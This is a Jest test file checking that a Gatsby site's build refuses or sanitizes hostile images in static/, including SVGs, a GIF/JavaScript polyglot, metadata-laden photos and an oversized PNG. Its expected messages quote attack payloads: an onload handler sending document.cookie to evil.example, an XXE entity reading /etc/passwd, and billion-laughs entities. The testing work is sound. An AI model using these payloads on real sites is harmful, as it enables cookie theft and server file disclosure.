/**
 * @jest-environment node
 *
 * Hostile class "static images": images put at the root of static/, which
 * the site publishes at their own paths, written to publish what they must
 * not (see __tests__/fixtures/hostile/static-images/README.md): a photo
 * carrying its GPS position, camera, artist, XMP creator and a JPEG
 * comment; a GIF that is also JavaScript; a PNG and a WebP with text,
 * metadata and script after their end; SVGs with an onload handler, a
 * script, a foreignObject, links and style sheets of another site, url()
 * in styles and paint, a DOCTYPE with entities, animations turning a link
 * into javascript:; the polyglot under another type's name; an image over
 * the pixel limit; an icon.
 *
 * Each goes through the real path: gatsby/onPreBootstrap.ts on a project
 * of its own, which must refuse it naming the file and what is wrong
 * before it writes anything, or take it; then, as a build goes on, Gatsby's
 * byte-for-byte copy of static/ into public/, the remade images written
 * over it (features/images/staticImages.node.ts), and public/ held to what the build
 * claimed. What is published is read as a browser gets it: by sharp, by its
 * structure (segments, chunks, blocks, bytes after the end), and as a
 * script.
 */
import fs from 'node:fs';
import path from 'node:path';
import vm from 'node:vm';
import sharp from 'sharp';
import { SVG_RULE } from '../../features/images/staticSvg';
import { icoFromPngs } from '../../features/share-cards/icons';
import { HOSTILE, scratch } from '../support/hostile';
import { SECRETS, gifPolyglot, hiddenParts, metadataIn, pngClaiming } from '../support/images';
import { contentProject, preBootstrapPanic, runPreBootstrap, stopsWith } from '../support/preBootstrap';
import { publicDirOf } from '../../system/paths.js';

const CLASS = 'static-images';
const ROOT = path.join(__dirname, '..', '..');
const STATIC_RULE =
  "static/ holds the site's own images at its root only (whose contents match their extension: .png, .jpg, .jpeg, .gif, .webp, .avif, .svg); editors' images go in content/media/";
const EXPORT_AGAIN = 'export it again from an image editor as a PNG, JPEG, GIF, WebP or AVIF of at most 50 megapixels';

// A build's start draws the icons and share images on a shared 2-core machine.
jest.setTimeout(120_000);

let dir: string;
beforeAll(() => {
  dir = scratch(CLASS);
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

const fixtureBytes = (name: string): Buffer => fs.readFileSync(path.join(HOSTILE, CLASS, name));

/** A project whose static/ holds these files beside the site's own favicon.svg. */
function withStatic(files: Record<string, Buffer>, options?: { whole: boolean }): string {
  const directory = contentProject(dir, options);
  for (const [name, bytes] of Object.entries(files)) fs.writeFileSync(path.join(directory, 'static', name), bytes);
  return directory;
}

/** The panic of onPreBootstrap on a project with these files in static/. */
const refusal = (files: Record<string, Buffer>): Promise<string> => preBootstrapPanic(withStatic(files));

/** The alerts a file makes when a page runs it as a script; what it throws when it is no script. */
function asScript(bytes: Buffer): unknown[] | string {
  const alerts: unknown[] = [];
  try {
    vm.runInNewContext(bytes.toString('latin1'), { alert: (value: unknown) => alerts.push(value) }, { timeout: 1_000 });
  } catch (error) {
    return (error as Error).name;
  }
  return alerts;
}

describe('SVGs in static/: refused before anything is written, naming the file, each line and the offender', () => {
  const handler = (attribute: string) => new RegExp(`^line 1: ${attribute} on <svg> is an event handler, which runs script; the attributes allowed on <svg> are id, fill, `);
  const element = (line: number, name: string) => `line ${line}: <${name}> is not one of a drawing's elements`;
  const SVGS: [string, (string | RegExp)[]][] = [
    ['onload.svg', [handler(`onload="fetch\\('https://evil\\.example/\\?c=' \\+ document\\.cookie\\)"`)]],
    ['script.svg', [element(4, 'script'), 'line 4: <![CDATA[ opens a CDATA section; write text with character references instead']],
    ['foreign-object.svg', [element(2, 'foreignObject'), element(3, 'iframe')]],
    [
      'external-href.svg',
      [
        'line 3: xlink:href="https://evil.example/gradients.svg#shade" on <linearGradient>: xlink:href is #id, naming an element of the drawing',
        element(5, 'use'),
        element(6, 'a'),
      ],
    ],
    [
      'style-url.svg',
      [
        element(2, 'style'),
        /^line 3: style="background-image: url\(https:\/\/evil\.example\/pixel\.png\)" on <rect> is not an attribute the site's drawings use there; the attributes allowed on <rect> are id, fill, /,
        'line 4: fill="url(https://evil.example/paint.svg#p)" on <circle>: fill is none, currentColor, a colour (#rrggbb, a name, rgb() or hsl() of numbers) or url(#id) naming an element of the drawing',
        'line 5: stroke="u\\\\72l(https://evil.example/escaped.svg#p)" on <path>: stroke is none, currentColor, a colour (#rrggbb, a name, rgb() or hsl() of numbers) or url(#id) naming an element of the drawing',
      ],
    ],
    [
      'doctype-entity.svg',
      [
        'line 2: "<!DOCTYPE svg [ <!ENTITY passwd SYSTEM \\"file:///etc/passwd\\">" declares a document type, which can define entities; an SVG in static/ has none',
        'line 4: "<!ENTITY lol \\"lollollollollollollollollollol\\">" is a declaration; an SVG in static/ has none',
        'line 5: "<!ENTITY lol2 \\"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol…" is a declaration; an SVG in static/ has none',
        'line 6: "]>" is text outside the drawing; a drawing has text in <title> and <desc> only',
        'line 8: &passwd; is an entity reference; only &amp; &lt; &gt; &quot; &apos; and numeric references (&#38;) are allowed',
      ],
    ],
    [
      'xml-stylesheet.svg',
      [
        'line 2: "<?xml-stylesheet type=\\"text/css\\" href=\\"https://evil.example…" is a processing instruction; a drawing may start with the XML declaration (<?xml version="1.0" encoding="UTF-8"?>) and has no other',
      ],
    ],
    ['animate-href.svg', [element(2, 'a'), element(3, 'set'), element(4, 'animate'), element(7, 'image')]],
  ];

  it.each(SVGS)('%s', async (name, lines) => {
    const panic = await refusal({ [name]: fixtureBytes(name) });
    const [head, file, ...offenders] = panic.split('\n');
    expect([head, file]).toEqual([
      'The content folders hold a path the site does not build from:',
      `  - static/${name} is not a drawing the site publishes as it is; ${SVG_RULE}:`,
    ]);
    expect(offenders.map((line) => line.replace(/^ {6}/, ''))).toEqual(lines.map((line) => (typeof line === 'string' ? line : expect.stringMatching(line))));
  });

  it('names every refused drawing at once, in path order', async () => {
    const panic = await refusal(Object.fromEntries(SVGS.map(([name]) => [name, fixtureBytes(name)])));
    expect(panic.split('\n').filter((line) => line.startsWith('  - '))).toEqual(
      SVGS.map(([name]) => `  - static/${name} is not a drawing the site publishes as it is; ${SVG_RULE}:`).sort(),
    );
  });

  it("passes the site's own logo mark, and publishes it as it is", () => {
    // The whole build's start, with it, is below; here its bytes are the site's.
    expect(fs.readFileSync(path.join(ROOT, 'static', 'favicon.svg')).equals(fs.readFileSync(path.join(withStatic({}), 'static', 'favicon.svg')))).toBe(true);
  });
});

describe('raster images that are not what they seem: refused before anything is written, naming the file', () => {
  it('the GIF/JavaScript polyglot named as a script or as a PNG: its bytes say GIF, and a script is no image', async () => {
    const polyglot = fixtureBytes('polyglot.gif');
    // It is what its name says here: a GIF, and a script that runs.
    expect((await sharp(polyglot).metadata()).format).toBe('gif');
    expect(asScript(polyglot)).toEqual([1]);
    const panic = await refusal({ 'polyglot.js': polyglot, 'polyglot.png': polyglot });
    stopsWith(panic, [`static/polyglot.js is a .js file, not an image; ${STATIC_RULE}`, `static/polyglot.png is named .png but its contents are not a PNG image; ${STATIC_RULE}`]);
  });

  it('an icon, which the build cannot re-encode', async () => {
    const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#15803d' } })
      .png()
      .toBuffer();
    const panic = await refusal({ 'app.ico': Buffer.from(icoFromPngs([{ size: 16, png }])) });
    stopsWith(panic, [`static/app.ico is an icon (.ico), which the build cannot re-encode, so it cannot publish it; ${STATIC_RULE}: make it a PNG`]);
  });

  it('a PNG whose header claims 20,000 x 20,000 pixels: held to an upload’s limits, before decoding', async () => {
    const directory = withStatic({ 'banner.png': pngClaiming(20_000, 20_000) }, { whole: true });
    const panic = await preBootstrapPanic(directory);
    expect(panic).toBe(`static/ holds images the site cannot publish:\n  - static/banner.png cannot be read as an image (Input image exceeds pixel limit); ${EXPORT_AGAIN}`);
    expect(fs.existsSync(path.join(directory, 'node_modules', '.cache', 'stockpay-static-images'))).toBe(false);
  });
});

describe('raster images in static/: published at their own paths as the image pipeline makes them', () => {
  const RASTER = ['notes.png', 'photo.jpg', 'polyglot.gif', 'sticker.webp'];
  let directory: string;
  let publicDir: string;
  let record: Record<string, string[]>;
  let unplaced: unknown;
  const published = (name: string) => fs.readFileSync(path.join(publicDir, name));

  beforeAll(async () => {
    directory = withStatic(Object.fromEntries(RASTER.map((name) => [name, fixtureBytes(name)])), { whole: true });
    publicDir = publicDirOf(directory);
    // The build's start, for real: the content folders' check, the images remade, every writer's claims.
    const { error, owners, staticImages } = await runPreBootstrap(directory);
    expect(error).toBeUndefined();
    // Then Gatsby copies static/ into public/ byte for byte, after the pages.
    fs.cpSync(path.join(directory, 'static'), publicDir, { recursive: true, dereference: true });
    unplaced = (() => {
      try {
        return owners.settleOwnership(publicDir, []);
      } catch (thrown) {
        return (thrown as Error).message;
      }
    })();
    // And the build's end writes the remade images over the copies, then holds public/ to the claims.
    expect(await staticImages.placeStaticImages(directory, publicDir)).toEqual(RASTER);
    record = owners.settleOwnership(publicDir, []).record;
  });

  it('carry, as put there, what must not be published', async () => {
    expect(await metadataIn(fixtureBytes('photo.jpg'))).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^EXIF/),
        expect.stringMatching(/^XMP/),
        expect.stringMatching(/^IPTC/),
        'the bytes "Secret Photographer"',
        'the bytes "Phone Maker"',
      ]),
    );
    const exif = (await sharp(fixtureBytes('photo.jpg')).metadata()).exif ?? Buffer.alloc(0);
    for (const field of ['Phone Maker', 'Phone 12 Pro', 'Secret Photographer', 'PhoneOS']) expect(exif.includes(Buffer.from(field))).toBe(true);
    expect(hiddenParts(fixtureBytes('photo.jpg'))).toEqual(
      expect.arrayContaining(['a comment (COM): "Secret comment: shot at the warehouse, alert(4)"', expect.stringMatching(/^an APP1 segment \("Exif/)]),
    );
    expect(hiddenParts(fixtureBytes('polyglot.gif'))).toEqual(['a comment block', 'an application block (XMP DataXMP)', '16 bytes after the end']);
    expect(hiddenParts(fixtureBytes('notes.png'))).toEqual(['a tEXt chunk', 'a zTXt chunk', 'a iTXt chunk', '25 bytes after the end']);
    expect(hiddenParts(fixtureBytes('sticker.webp'))).toEqual(['a EXIF chunk', 'a XMP chunk', '25 bytes after the end']);
    // The polyglot is the writer's, byte for byte.
    expect(fixtureBytes('polyglot.gif').equals(gifPolyglot())).toBe(true);
  });

  it("fail the build while Gatsby's copies are in public/, naming each", () => {
    expect(unplaced).toBe(
      [
        "public/ is not what this build's writers made (features/hosting/publicOwners.ts):",
        ...RASTER.map(
          (name) =>
            `  - public/${name} is not the file the site's own images from static/ (features/images/staticImages.node.ts) wrote: something wrote over it later in the build`,
        ),
      ].join('\n'),
    );
  });

  it('are recorded as static/ files at their own paths, beside the logo mark as it is', () => {
    expect(record.static).toEqual(['favicon.svg', ...RASTER]);
    expect(published('favicon.svg').equals(fs.readFileSync(path.join(ROOT, 'static', 'favicon.svg')))).toBe(true);
  });

  it.each(RASTER)('%s: its own format and size, and nothing but its pixels: no metadata, comment, text, block or byte after its end', async (name) => {
    const [before, after] = [await sharp(fixtureBytes(name)).metadata(), await sharp(published(name)).metadata()];
    expect([after.format, after.width, after.height, after.pages]).toEqual([before.format, before.width, before.height, before.pages]);
    expect(await metadataIn(published(name))).toEqual([]);
    expect(hiddenParts(published(name))).toEqual([]);
    for (const text of [...SECRETS, 'alert(', 'script', 'xmpmeta', 'warehouse']) expect([name, published(name).includes(Buffer.from(text))]).toEqual([name, false]);
  });

  it('the photo keeps its picture: green on the left, white on the right', async () => {
    const { data, info } = await sharp(published('photo.jpg')).raw().toBuffer({ resolveWithObject: true });
    const at = (x: number) => [...data.subarray((150 * info.width + x) * info.channels, (150 * info.width + x) * info.channels + 3)];
    const near = (actual: number[], expected: number[]) => actual.every((value, index) => Math.abs(value - expected[index]) <= 12);
    expect([near(at(100), [0x15, 0x80, 0x3d]), near(at(300), [0xf0, 0xfd, 0xf4])]).toEqual([true, true]);
  });

  it('the PNG keeps its transparency', async () => {
    const { data, info } = await sharp(published('notes.png')).raw().toBuffer({ resolveWithObject: true });
    expect(info.channels).toBe(4);
    expect(Math.abs(data[3] - 128)).toBeLessThanOrEqual(1);
  });

  it('the polyglot is no script any more', () => {
    expect(asScript(published('polyglot.gif'))).toBe('SyntaxError');
  });
});
